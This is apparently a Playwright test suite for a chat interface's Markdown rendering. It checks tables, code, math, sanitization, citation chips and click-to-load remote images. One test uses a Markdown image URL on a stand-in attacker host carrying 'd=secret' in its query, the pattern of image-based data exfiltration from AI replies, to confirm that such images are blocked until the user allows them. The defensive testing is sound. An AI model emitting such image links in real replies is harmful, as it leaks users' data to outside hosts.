// Markdown in replies: a streamed reply renders its table, highlighted code and math, stays sanitized, and its
// finished blocks are not rebuilt while later tokens arrive; a cited source shows as a chip.
import { expect, test } from "@playwright/test";
import {
  assistantMessages,
  callTool,
  closeSettings,
  configureEndpoint,
  conversation,
  openSettings,
  send,
} from "./fixtures.ts";

test.beforeEach(async ({ page }) => {
  await page.goto("/");
  await expect(page.getByRole("button", { name: "New thread" })).toBeVisible();
});

test("a streamed reply shows its GFM table, highlighted code and math, and runs nothing", async ({ page }) => {
  await configureEndpoint(page);
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs++;
    void dialog.dismiss();
  });
  // Count tables put into a reply's Markdown while it streams: a finished block is inserted once, not per token.
  await page.evaluate(() => {
    const w = window as unknown as { __tablesInserted: number };
    w.__tablesInserted = 0;
    new MutationObserver((records) => {
      for (const record of records) {
        const target = record.target as Element;
        if (!target.closest?.('[aria-label="Assistant message"][aria-busy="true"] .markdown')) continue;
        // A busy machine may insert the table inside a larger block, in one go.
        for (const node of record.addedNodes) {
          if (node.nodeName === "TABLE") w.__tablesInserted++;
          else if (node instanceof Element) w.__tablesInserted += node.querySelectorAll("table").length;
        }
      }
    }).observe(document.body, { subtree: true, childList: true });
  });

  await send(page, "math and code");
  const reply = assistantMessages(page).last();
  await expect(reply).toHaveAttribute("aria-busy", "true");

  const table = reply.getByRole("table");
  await expect(table.getByRole("row")).toHaveCount(3);
  await expect(table.getByRole("cell", { name: "0.17" })).toBeVisible();

  const code = reply.locator("pre code");
  await expect(code.locator(".hljs-keyword").first()).toHaveText("def");
  await expect(code.locator(".hljs-comment")).toHaveText("# squared");

  // Inline and display math as MathML, without the TeX source showing (the third is KaTeX's error for \href).
  await expect(reply.locator("math")).toHaveCount(3);
  await expect(reply.locator('math[display="block"]').locator("mfrac")).toHaveCount(1);
  await expect(reply).not.toContainText("\\frac");
  // Dollar amounts are not math.
  await expect(reply).toContainText("Each run costs $5 and $10 with a GPU.");

  await expect(page.getByRole("button", { name: "Send" })).toBeVisible();
  const tablesInserted = await page.evaluate(
    () => (window as unknown as { __tablesInserted: number }).__tablesInserted,
  );
  expect(tablesInserted).toBe(1);
  // The saved reply renders the same way.
  await expect(reply.getByRole("table")).toBeVisible();
  await expect(reply.locator("pre code .hljs-keyword").first()).toHaveText("def");
  await expect(reply.locator("math")).toHaveCount(3);
  // TeX's \href became an error message, not a link; nothing ran.
  expect(await reply.locator("a[href^='javascript'], [onerror], script").count()).toBe(0);
  expect(dialogs).toBe(0);
});

test("a cited source shows as a chip naming its site, with the page's title on hover", async ({ page }) => {
  await configureEndpoint(page);
  // The mock repeats what the tool printed, so the reply holds the citation as a model writes it.
  await send(
    page,
    callTool("bash", { command: "echo 'Rates rose [citation:Fed raises rates](https://www.example.com/news).'" }),
  );
  const chip = assistantMessages(page).last().getByRole("link", { name: "Fed raises rates (example.com)" });
  await expect(chip).toHaveText("example.com");
  await expect(chip).toHaveAttribute("title", "Fed raises rates");
  await expect(chip).toHaveAttribute("href", "https://www.example.com/news");
  await expect(chip).toHaveAttribute("target", "_blank");
  await expect(assistantMessages(page).last()).not.toContainText("citation:");
});

/** A 1×1 PNG, what the routed image host answers. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=",
  "base64",
);

test("a remote image in a reply loads only after Load image; Always shows its host's images at once", async ({
  page,
}) => {
  // The image host is routed here, so what the page asks it for is counted (and nothing leaves the machine).
  const fetched: string[] = [];
  await page.route("http://images.attacker.test/**", (route) => {
    fetched.push(route.request().url());
    return route.fulfill({ status: 200, contentType: "image/png", body: PNG });
  });
  await configureEndpoint(page);
  // The mock answers "You said: <the message>", so the reply holds the image as a model would write it.
  await send(page, "![chart](http://images.attacker.test/chart.png?d=secret)");
  const reply = assistantMessages(page).last();
  const load = reply.getByRole("button", { name: "Load image from images.attacker.test" });
  await expect(load).toBeVisible();
  await expect(reply).toHaveAttribute("aria-busy", "false");
  expect(await reply.locator("img").count()).toBe(0);
  expect(fetched).toEqual([]);

  await load.click();
  const chart = reply.getByRole("img", { name: "chart" });
  await expect(chart).toBeVisible();
  await expect.poll(() => chart.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
  expect(fetched).toEqual(["http://images.attacker.test/chart.png?d=secret"]);
  await expect(load).toBeHidden();

  // "Always" for the host: this image shows, and the next reply's image shows with no click, after a reload too.
  await send(page, "![second](http://images.attacker.test/second.png)");
  const second = assistantMessages(page).last();
  await second.getByRole("button", { name: "Always show images from images.attacker.test" }).click();
  await expect(second.getByRole("img", { name: "second" })).toBeVisible();
  await send(page, "![third](http://images.attacker.test/third.png)");
  await expect(assistantMessages(page).last().getByRole("img", { name: "third" })).toBeVisible();
  await page.reload();
  await expect(assistantMessages(page).last().getByRole("img", { name: "third" })).toBeVisible();
  await expect(page.getByRole("button", { name: /Load image/ })).toHaveCount(0);
  // Another host still waits for a click.
  await send(page, "![other](http://other.attacker.test/x.png)");
  await expect(
    assistantMessages(page).last().getByRole("button", { name: "Load image from other.attacker.test" }),
  ).toBeVisible();

  // Settings → Appearance lists the host, and takes "Always" back: after a reload its images ask again.
  const settings = await openSettings(page, "Appearance");
  await settings.getByRole("button", { name: "Ask again before showing images from images.attacker.test" }).click();
  await expect(settings.getByText("None: every picture from the web waits for a click.")).toBeVisible();
  await closeSettings(page);
  await page.reload();
  await expect(
    conversation(page).getByRole("button", { name: "Load image from images.attacker.test" }).first(),
  ).toBeVisible();
});
